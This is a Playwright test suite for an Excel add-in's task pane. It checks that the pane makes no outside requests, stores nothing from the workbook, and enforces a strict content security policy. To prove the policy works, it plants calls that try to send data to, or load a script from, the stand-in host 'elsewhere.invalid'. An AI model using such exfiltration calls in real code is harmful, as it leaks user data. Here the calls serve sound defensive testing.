import type { Browser, Frame } from "playwright-core";
import { launchBrowser, openPreview, type OpenedPreview } from "../support/browser";
import { walkPane } from "../support/pane";

const origin = process.env["PREVIEW_ORIGIN"] ?? "";

let browser: Browser;
let preview: OpenedPreview;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(() => browser.close());

/**
 * What office.js keeps until the window is closed: which host it speaks to, and the settings of the document. Ours are
 * the names of the sheets that the add-in made.
 */
const OFFICE_KEY = /^hostInfoValue$|(xdmInfo|serializerVersion|CachedSessionSettings)$/;

/** Everything that outlives the page: keys by the place that keeps them. */
const keptKeys = (frame: Frame): Promise<Readonly<Record<string, readonly string[]>>> =>
  frame.evaluate(async () => ({
    localStorage: Object.keys(localStorage),
    sessionStorage: Object.keys(sessionStorage),
    cookies: document.cookie === "" ? [] : document.cookie.split("; "),
    databases: (await indexedDB.databases()).map(({ name }) => name ?? ""),
    caches: await caches.keys(),
  }));

/** All that is kept, as one text: nothing of the workbook may be in it. */
const keptText = (frame: Frame): Promise<string> =>
  frame.evaluate(() =>
    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, window.name])
  );

describe("the whole life of the add-in", () => {
  let frame: Frame;

  beforeAll(async () => {
    preview = await openPreview(browser, { origin, isFirstTime: true });
    const french = await walkPane(preview);
    await french.frame.getByRole("button", { name: "Aller à l’accueil" }).click();
    await french.home();
    await french.success();
    await french.back();
    await french.help();
    for (const summary of (await french.frame.locator("summary").all()).slice(1)) await summary.click();
    await preview.page.getByLabel("Langue").selectOption("en-US");
    const english = await walkPane(preview, "en");
    await english.home();
    await english.help();
    ({ frame } = english);
  });

  afterAll(() => preview.close());

  it("asks for nothing outside the origin", () => {
    expect(preview.requests.length).toBeGreaterThan(10);
    expect(preview.outside()).toEqual([]);
  });

  it("puts no error on the console", () => {
    expect(preview.problems).toEqual([]);
  });

  it("keeps nothing in the browser but one preference and the marks of office.js itself", async () => {
    const { sessionStorage = [], ...others } = await keptKeys(frame);
    expect(others).toEqual({ localStorage: ["avdl.welcome"], cookies: [], databases: [], caches: [] });
    expect(sessionStorage.filter((key) => !OFFICE_KEY.test(key))).toEqual([]);
    expect(await preview.page.context().cookies()).toEqual([]);
  });

  it("keeps nothing of the workbook in what office.js keeps", async () => {
    const kept = await keptText(frame);
    for (const text of ["M-001", "CESF", "Divers", "Le Seuil", "34287"]) expect(kept).not.toContain(text);
  });
});

/** The directives of a policy by name. */
const directives = (policy: string): ReadonlyMap<string, string> =>
  new Map(
    policy.split(";").map((directive) => {
      const [name = "", ...values] = directive.trim().split(" ");
      return [name, values.join(" ")];
    })
  );

describe("the content security policy of the pane", () => {
  beforeAll(async () => {
    preview = await openPreview(browser, { origin });
  });

  afterAll(() => preview.close());

  it.each(["header", "meta"] as const)("is in its %s and allows its own origin only", async (place) => {
    const response = await preview.page.request.get(`${origin}/taskpane.html`);
    const meta = await (
      await preview.pane()
    )
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    const policy = directives((place === "header" ? response.headers()["content-security-policy"] : meta) ?? "");
    expect(policy.get("default-src")).toBe("'none'");
    expect(policy.get("connect-src")).toBe("'self'");
    expect(policy.get("form-action")).toBe("'none'");
    expect(policy.get("script-src")).not.toContain("unsafe");
  });

  it.each([
    ["fetch", "connect-src"],
    ["image", "img-src"],
    ["beacon", "connect-src"],
    ["socket", "connect-src"],
    ["script", "script-src-elem"],
  ] as const)("refuses a planted %s to another origin", async (means, directive) => {
    const violation = await (
      await preview.pane()
    ).evaluate(
      (planted) =>
        new Promise<readonly [string, string]>((resolve) => {
          document.addEventListener(
            "securitypolicyviolation",
            ({ effectiveDirective, blockedURI }) => resolve([effectiveDirective, new URL(blockedURI).host]),
            { once: true }
          );
          const url = "https://elsewhere.invalid/household";
          const send = {
            fetch: () => void fetch(url).catch(() => undefined),
            image: () => document.createElement("img").setAttribute("src", url),
            beacon: () => navigator.sendBeacon(url, "M-001"),
            socket: () => new WebSocket("wss://elsewhere.invalid/household"),
            script: () => document.head.append(Object.assign(document.createElement("script"), { src: url })),
          };
          send[planted]();
        }),
      means
    );
    expect(violation).toEqual([directive, "elsewhere.invalid"]);
  });

  it("lets the pane ask its own origin", async () => {
    const status = await (await preview.pane()).evaluate(async () => (await fetch("/functions.json")).status);
    expect(status).toBe(200);
  });
});
